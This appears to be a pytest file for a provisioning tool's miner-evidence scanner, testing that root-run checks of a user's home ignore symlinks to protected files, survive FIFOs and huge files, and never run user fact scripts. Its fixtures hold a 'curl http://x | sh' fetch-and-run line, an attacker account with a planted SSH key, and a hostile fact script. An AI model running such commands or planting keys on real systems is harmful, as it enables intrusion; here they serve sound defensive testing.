"""Facts that root reads from a user's files: limited to what the user can read, without waiting."""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from provision.remote import dpkg
from provision.remote.facts import access
from provision.remote.facts.miners import find_miners
from provision.remote.facts.mining_evidence import EvidenceRow
from provision.remote.facts.tree import Tree
from provision.remote.host import ModuleHost
from provision.remote.modules import setup
from tests.lab.files.attacker import UID, Field, as_user, field

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKb8Vw2rN5tQm9xL4sZc7yE1dF6gH3jP0aUqWvBnXoYt"


@pytest.fixture
def site() -> Iterator[Field]:
    with field() as ground:
        root = ground.protected.parent
        (root / "home").mkdir(exist_ok=True)
        (root / "etc").mkdir()
        (root / "etc/passwd").write_text(f"mallory:x:{UID}:{UID}::/home:/bin/sh\n")
        ground.secret.write_text(f"/opt/t-rex\n{KEY} of-root\ncurl http://x | sh\n")
        yield ground


def find_evidence(site: Field) -> list[EvidenceRow]:
    """Return all evidence in the user's files; the folder is the rig's /home/mallory."""
    began = time.monotonic()
    tree = Tree(str(site.protected.parent))
    entries = [*find_miners(tree, dpkg.Database(""))["miners"], *access.access(tree)]
    assert time.monotonic() - began < 10
    return entries


def write_in_home(site: Field, work: Callable[[Path], object]) -> Path:
    """Run a function as the user in a folder below /home."""
    home = site.home / "mallory"
    if not home.exists():
        home.mkdir()
        os.chown(home, UID, UID)
        passwd = site.protected.parent / "etc/passwd"
        passwd.write_text(f"mallory:x:{UID}:{UID}::/home/mallory:/bin/sh\n")
    as_user(lambda: work(home))
    return home


def test_symlink_to_a_root_file_is_not_read(site: Field) -> None:
    def work(home: Path) -> None:
        (home / ".ssh").mkdir()
        (home / ".ssh/authorized_keys").symlink_to(site.secret)
        (home / ".profile").symlink_to(site.secret)
        (home / ".config").symlink_to(site.protected)

    (site.protected / "autostart").mkdir()
    (site.protected / "autostart/x.desktop").write_text("Exec=/opt/t-rex\n")
    (site.protected / "autostart").chmod(0o700)
    write_in_home(site, work)
    assert find_evidence(site) == []


def test_files_that_the_user_can_read_are_evidence(site: Field) -> None:
    def work(home: Path) -> None:
        (home / "dotfiles").write_text("/opt/t-rex\n")
        (home / ".profile").symlink_to("dotfiles")
        (home / ".bashrc").symlink_to(site.protected / "conf")

    (site.protected / "conf").write_text("/opt/xmrig\n")
    write_in_home(site, work)
    assert {entry["name"] for entry in find_evidence(site)} == {"t-rex", "xmrig"}


def test_fifos_endless_files_and_kernel_files_do_not_hang(site: Field) -> None:
    def work(home: Path) -> None:
        (home / ".ssh").mkdir()
        os.mkfifo(home / ".ssh/authorized_keys")
        os.mkfifo(home / ".bashrc")
        os.mkfifo(home / "script")
        (home / ".profile").write_text("/home/mallory/script /proc/kmsg /dev/zero /opt/t-rex\n")
        with (home / ".xprofile").open("wb") as stream:
            stream.truncate(1 << 40)
        # Patterns take their time on long lines, and each path that is named may be a script.
        (home / ".bash_profile").write_text("curl " * 400_000)
        (home / ".xinitrc").write_text("".join(f"/x{number}\n" for number in range(200_000)))

    write_in_home(site, work)
    assert [entry["name"] for entry in find_evidence(site)] == ["t-rex"]


def test_a_fact_program_of_a_user_is_not_run(site: Field) -> None:
    mark = site.protected / "mark"

    def work(home: Path) -> None:
        for name in ("evil.fact", "fifo.fact"):
            if name.startswith("fifo"):
                os.mkfifo(home / name)
                continue
            (home / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
            (home / name).chmod(0o755)

    home = write_in_home(site, work)
    facts = setup.local_facts(ModuleHost(), str(home))
    assert "is not run" in facts["evil"]
    assert "FIFO" in facts["fifo"]
    assert not mark.exists()
